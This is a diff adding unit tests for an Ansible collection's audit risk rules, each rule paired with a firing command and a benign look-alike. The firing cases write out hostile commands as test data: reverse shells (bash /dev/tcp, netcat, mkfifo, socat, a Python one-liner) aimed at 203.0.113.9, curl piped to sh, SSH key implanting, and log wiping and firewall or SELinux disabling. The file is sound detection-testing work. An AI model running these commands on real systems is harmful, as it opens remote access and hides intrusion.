@@ -1,0 +1,285 @@
+"""Risk rules: the rule language, and every shipped rule against a real command line that
+fires it and a benign look-alike that does not.
+
+Events are made the whole way: audit records written as the kernel writes them (or evtsys
+lines as the log server stores them) are read by the event library, then classified.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from ansible_collections.whotouched.server_audit.plugins.module_utils.audit_events import (
+    iter_events,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils.audit_risk import (
+    RiskRuleError,
+    at_least,
+    classify,
+    compile_rules,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils.audit_risk_rules import (
+    SHIPPED_RULES,
+)
+from tests.unit.plugins.module_utils.audit_record_lines import (
+    evtsys,
+    exec_records,
+    file_records,
+)
+
+RULES = compile_rules(SHIPPED_RULES)
+
+
+def event_of(lines):
+    events = list(iter_events(lines))
+    assert len(events) == 1, events
+    return classify(events[0], RULES)
+
+
+def run(*argv, **options):
+    return exec_records(list(argv), **options)
+
+
+def sh(script, **options):
+    return exec_records(["/bin/sh", "-c", script], exe="/usr/bin/dash", **options)
+
+
+def write(path, **options):
+    return file_records(path, **options)
+
+
+SUBJECT = ("Subject: Security ID: CORP\\admin Account Name: admin Account Domain: CORP "
+           "Logon ID: 0x3E7 ")
+
+
+def win(event_id, text, success=True):
+    return [evtsys(event_id, text, success)]
+
+
+GROUP_ADD = (SUBJECT + "Member: Security ID: CORP\\bob Account Name: CN=bob,OU=Staff,DC=corp,"
+             "DC=example Group: Security ID: CORP\\%s Group Name: %s Group Domain: CORP "
+             "Additional Information: Privileges: -")
+TGS = ("A Kerberos service ticket was requested. Account Information: Account Name: bob@CORP "
+       "Account Domain: CORP Logon GUID: {0} Service Information: Service Name: MSSQLSvc "
+       "Service ID: CORP\\svc-sql Network Information: Client Address: ::ffff:198.51.100.7 "
+       "Client Port: 49822 Additional Information: Ticket Options: 0x40810000 "
+       "Ticket Encryption Type: %s Failure Code: 0x0 Transited Services: -")
+TGT = ("A Kerberos authentication ticket (TGT) was requested. Account Information: "
+       "Account Name: bob Supplied Realm Name: CORP User ID: CORP\\bob Service Information: "
+       "Service Name: krbtgt Service ID: CORP\\krbtgt Network Information: Client Address: "
+       "::ffff:198.51.100.7 Client Port: 49822 Additional Information: Ticket Options: "
+       "0x40810010 Result Code: %s Ticket Encryption Type: 0x12 Pre-Authentication Type: 2")
+NTLM = ("The computer attempted to validate the credentials for an account. Authentication "
+        "Package: MICROSOFT_AUTHENTICATION_PACKAGE_V1_0 Logon Account: bob Source Workstation: "
+        "WS07 Error Code: %s")
+LOGON_FAILED = ("An account failed to log on. " + SUBJECT + "Logon Type: 3 Account For Which "
+                "Logon Failed: Security ID: NULL SID Account Name: bob Account Domain: CORP "
+                "Failure Information: Failure Reason: Unknown user name or bad password. "
+                "Status: 0xC000006D Sub Status: 0xC000006A Network Information: Workstation "
+                "Name: WS07 Source Network Address: 198.51.100.7 Source Port: 51234")
+LOGON = LOGON_FAILED.replace("An account failed to log on.", "An account was successfully "
+                             "logged on.").replace("Account For Which Logon Failed", "New Logon")
+
+
+# rule id: (a real command line or event that fires it, a benign look-alike that does not)
+SHIPPED_RULE_CASES = {
+    "audit-rules-deleted": (run("auditctl", "-D"), run("auditctl", "-l")),
+    "logging-service-stopped": (run("systemctl", "stop", "auditd.service"),
+                                run("systemctl", "restart", "rsyslog")),
+    "logging-process-killed": (run("pkill", "-9", "auditd"), run("pkill", "-HUP", "nginx")),
+    "audit-config-written": (write("/etc/audit/rules.d/audit.rules", key="audit-config"),
+                             write("/etc/hosts", key="hosts")),
+    "logs-wiped": (run("shred", "-u", "/var/log/auth.log"), run("rm", "-f", "/tmp/build.log")),
+    "journal-vacuumed": (run("journalctl", "--vacuum-time=1s"), run("journalctl", "-u", "ssh")),
+    "history-removed": (run("ln", "-sf", "/dev/null", "/root/.bash_history"),
+                        run("cat", "/root/.bash_history")),
+    "history-disabled": (exec_records(["bash", "-c", "unset HISTFILE; id"]),
+                         exec_records(["bash", "-c", "export HISTSIZE=1000"])),
+    "account-changed": (run("useradd", "-m", "-s", "/bin/bash", "backdoor"),
+                        run("passwd", "-S", "alice")),
+    "privileged-group-granted": (run("usermod", "-aG", "sudo", "mallory"),
+                                 run("usermod", "-aG", "audio", "alice")),
+    "identity-files-written": (write("/etc/shadow", key="shadow"),
+                               write("/etc/shadow-backup.txt", key=None)),
+    "sudoers-written": (write("/etc/sudoers.d/90-mallory", key="sudoers"),
+                        write("/etc/sudo.conf", key=None)),
+    "sudoers-edited": (run("visudo", "-f", "/etc/sudoers.d/ops"), run("visudo", "-c")),
+    "root-shell-via-sudo": (run("sudo", "-i"), run("sudo", "systemctl", "restart", "nginx")),
+    "sudo-used": (run("sudo", "apt-get", "update"), run("sudoedit", "/etc/motd")),
+    "setuid-bit-set": (run("chmod", "u+s", "/tmp/.x"), run("chmod", "755", "deploy.sh")),
+    "cron-written": (write("/var/spool/cron/crontabs/root", key="crontab"),
+                     write("/etc/cronet.conf", key=None)),
+    "crontab-edited": (run("crontab", "/tmp/jobs.txt"), run("crontab", "-l")),
+    "authorized-keys-written": (write("/root/.ssh/authorized_keys", key="root-ssh"),
+                                write("/root/.ssh/known_hosts", key="root-ssh")),
+    "authorized-keys-appended": (
+        sh("echo 'ssh-ed25519 AAAAC3Nza mallory' >> /root/.ssh/authorized_keys"),
+        run("cat", "/root/.ssh/authorized_keys")),
+    "ssh-config-written": (write("/etc/ssh/sshd_config", key="sshd-config"),
+                           write("/etc/ssh/ssh_config", key=None)),
+    "service-enabled": (run("systemctl", "enable", "--now", "updater.service"),
+                        run("systemctl", "status", "updater.service")),
+    "service-unit-written": (write("/etc/systemd/system/updater.service", key=None),
+                             write("/etc/systemd/journald.conf", key=None)),
+    "download-piped-to-shell": (sh("curl -fsSL http://203.0.113.9/x.sh | sh"),
+                                sh("curl -fsSL http://203.0.113.9/x.sh -o /root/x.sh")),
+    "executed-from-temp": (run("/tmp/.ice/kworker", exe="/tmp/.ice/kworker"),
+                           run("tmpreaper", "24h", "/tmp", exe="/usr/sbin/tmpreaper")),
+    "reverse-shell-dev-tcp": (exec_records(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
+                              run("ls", "-l", "/dev/tty")),
+    "reverse-shell-netcat": (run("nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
+                             run("nc", "-zv", "db01", "5432")),
+    "reverse-shell-fifo": (
+        sh("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
+        run("mkfifo", "/run/app/control")),
+    "reverse-shell-socat": (
+        run("socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash,pty,stderr,setsid"),
+        run("socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80")),
+    "reverse-shell-interpreter": (
+        run("python3", "-c", "import socket,os,pty;s=socket.socket();"
+            "s.connect(('203.0.113.9',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
+            "pty.spawn('/bin/sh')", exe="/usr/bin/python3.11"),
+        run("python3", "-c", "import socket; print(socket.gethostname())",
+            exe="/usr/bin/python3.11")),
+    "selinux-enforcement-off": (run("setenforce", "0"), run("setenforce", "1")),
+    "selinux-config-disabled": (
+        run("sed", "-i", "s/^SELINUX=enforcing/SELINUX=disabled/", "/etc/selinux/config"),
+        run("grep", "^SELINUX=", "/etc/selinux/config")),
+    "firewall-service-stopped": (run("systemctl", "disable", "--now", "firewalld"),
+                                 run("systemctl", "reload", "firewalld")),
+    "firewall-ufw-disabled": (run("ufw", "disable"), run("ufw", "status", "verbose")),
+    "firewall-rules-flushed": (run("iptables", "-F"), run("iptables", "-L", "-n")),
+    "service-account-shell": (
+        run("sh", "-c", "id", exe="/usr/bin/dash", uid=33, user_name="www-data",
+            auid=4294967295, login_name="unset"),
+        run("apache2", "-k", "graceful", exe="/usr/sbin/apache2", uid=33,
+            user_name="www-data", auid=4294967295, login_name="unset")),
+    "windows-account-created": (
+        win(4720, "A user account was created. " + SUBJECT + "New Account: Security ID: "
+            "CORP\\backdoor Account Name: backdoor Account Domain: CORP Attributes: SAM "
+            "Account Name: backdoor Display Name: <value not set>"),
+        win(4624, LOGON)),
+    "windows-account-enabled": (
+        win(4722, "A user account was enabled. " + SUBJECT + "Target Account: Security ID: "
+            "CORP\\bob Account Name: bob Account Domain: CORP"),
+        win(4624, LOGON)),
+    "windows-password-reset": (
+        win(4724, "An attempt was made to reset an account's password. " + SUBJECT +
+            "Target Account: Security ID: CORP\\bob Account Name: bob Account Domain: CORP"),
+        win(4723, "An attempt was made to change an account's password. " + SUBJECT +
+            "Target Account: Security ID: CORP\\admin Account Name: admin Account Domain: "
+            "CORP")),
+    "windows-account-deleted": (
+        win(4726, "A user account was deleted. " + SUBJECT + "Target Account: Security ID: "
+            "CORP\\bob Account Name: bob Account Domain: CORP"),
+        win(4624, LOGON)),
+    "windows-account-changed": (
+        win(4738, "A user account was changed. " + SUBJECT + "Target Account: Security ID: "
+            "CORP\\bob Account Name: bob Account Domain: CORP"),
+        win(4624, LOGON)),
+    "windows-account-locked": (
+        win(4740, "A user account was locked out. " + SUBJECT + "Account That Was Locked Out: "
+            "Security ID: CORP\\bob Account Name: bob Additional Information: Caller Computer "
+            "Name: WS07"),
+        win(4767, "A user account was unlocked. " + SUBJECT + "Target Account: Security ID: "
+            "CORP\\bob Account Name: bob Account Domain: CORP")),
+    "windows-group-member-added": (
+        win(4732, GROUP_ADD % ("Remote Desktop Users", "Remote Desktop Users")),
+        win(4733, (GROUP_ADD % ("Remote Desktop Users", "Remote Desktop Users")).replace(
+            "added", "removed"))),
+    "windows-admin-group-member-added": (
+        win(4728, GROUP_ADD % ("Domain Admins", "Domain Admins")),
+        win(4728, GROUP_ADD % ("Printer Admins Helpdesk", "Printer Helpdesk"))),
+    "windows-group-changed": (
+        win(4727, "A security-enabled global group was created. " + SUBJECT + "New Group: "
+            "Security ID: CORP\\ops Group Name: ops Group Domain: CORP"),
+        win(4624, LOGON)),
+    "windows-audit-log-cleared": (
+        [evtsys(1102, "The audit log was cleared. Subject: Security ID: CORP\\admin "
+                "Account Name: admin Domain Name: CORP Logon ID: 0x3E7").replace(
+                    "Security-Auditing", "Eventlog")],
+        win(1100, "The event logging service has shut down.")),
+    "windows-audit-policy-changed": (
+        win(4719, "System audit policy was changed. " + SUBJECT + "Audit Policy Change: "
+            "Category: Account Logon Subcategory: Credential Validation Changes: Success "
+            "removed"),
+        win(4624, LOGON)),
+    "windows-kerberos-rc4-ticket": (win(4769, TGS % "0x17"), win(4769, TGS % "0x12")),
+    "windows-kerberos-preauth-failed": (
+        win(4771, "Kerberos pre-authentication failed. Account Information: Security ID: "
+            "CORP\\bob Account Name: bob Service Information: Service Name: krbtgt/CORP "
+            "Network Information: Client Address: ::ffff:198.51.100.7 Client Port: 50213 "
+            "Additional Information: Ticket Options: 0x40810010 Failure Code: 0x18 "
+            "Pre-Authentication Type: 2", success=False),
+        win(4768, TGT % "0x0")),
+    "windows-kerberos-tgt-failed": (win(4768, TGT % "0x6", success=False),
+                                    win(4768, TGT % "0x0")),
+    "windows-credential-validation-failed": (win(4776, NTLM % "0xC000006A", success=False),
+                                             win(4776, NTLM % "0x0")),
+    "windows-logon-failed": (win(4625, LOGON_FAILED, success=False), win(4624, LOGON)),
+}
+
+
+def test_every_shipped_rule_has_a_case():
+    shipped = {rule["id"] for rule in SHIPPED_RULES}
+    assert shipped == set(SHIPPED_RULE_CASES)
+
+
+@pytest.mark.parametrize("rule_id", sorted(SHIPPED_RULE_CASES))
+def test_shipped_rule_fires_on_the_real_thing_and_not_on_its_look_alike(rule_id):
+    firing, benign = SHIPPED_RULE_CASES[rule_id]
+    fired = event_of(firing)
+    assert rule_id in fired["rules"], (fired["argv"], fired.get("path"), fired["rules"])
+    level = next(rule["level"] for rule in SHIPPED_RULES if rule["id"] == rule_id)
+    assert at_least(fired["level"], level)
+    quiet = event_of(benign)
+    assert rule_id not in quiet["rules"], (quiet["argv"], quiet.get("path"), quiet["rules"])
+
+
+def test_highest_level_wins_and_every_reason_is_kept():
+    event = event_of(run("sudo", "-i"))
+    assert event["level"] == "medium"
+    assert event["rules"] == ["root-shell-via-sudo", "sudo-used"]
+    assert len(event["reasons"]) == 2
+
+
+def test_an_event_no_rule_matches_is_info():
+    event = event_of(run("ls", "-la", "/srv"))
+    assert (event["level"], event["reasons"], event["rules"]) == ("info", [], [])
+
+
+def test_a_user_rule_replaces_the_shipped_rule_with_its_id():
+    rules = compile_rules(SHIPPED_RULES + [{
+        "id": "sudo-used", "level": "info", "reason": "sudo is how we work here",
+        "match": {"program": ["sudo"]}}])
+    event = classify(next(iter_events(run("sudo", "apt-get", "update"))), rules)
+    assert event["level"] == "info" and event["rules"] == ["sudo-used"]
+
+
+def test_unless_keeps_a_rule_quiet():
+    rules = compile_rules([{"id": "deploy", "level": "high", "reason": "r",
+                            "match": {"login_user": ["alice"]},
+                            "unless": {"program": ["git"]}}])
+    assert classify(next(iter_events(run("git", "pull"))), rules)["rules"] == []
+    assert classify(next(iter_events(run("rm", "x"))), rules)["rules"] == ["deploy"]
+
+
+@pytest.mark.parametrize("spec, message", [
+    ({"level": "high", "reason": "r", "match": {"key": ["x"]}}, "needs an id"),
+    ({"id": "a", "level": "severe", "reason": "r", "match": {"key": ["x"]}}, "level must be"),
+    ({"id": "a", "level": "high", "match": {"key": ["x"]}}, "reason is required"),
+    ({"id": "a", "level": "high", "reason": "r", "match": {}}, "non-empty mapping"),
+    ({"id": "a", "level": "high", "reason": "r", "match": {"colour": "red"}},
+     "unknown condition colour"),
+    ({"id": "a", "level": "high", "reason": "r", "match": {"args": "(unclosed"}},
+     "not a valid regular expression"),
+    ({"id": "a", "level": "high", "reason": "r", "match": {"event_id": ["x"]}},
+     "event_id must be numbers"),
+    ({"id": "a", "level": "high", "reason": "r", "match": {"success": "yes"}},
+     "success must be true or false"),
+    ({"id": "a", "level": "high", "reason": "r", "match": {"key": "x"}, "extra": 1},
+     "unknown key extra"),
+])
+def test_bad_rules_are_refused_with_the_rule_named(spec, message):
+    with pytest.raises(RiskRuleError, match=message):
+        compile_rules([spec])
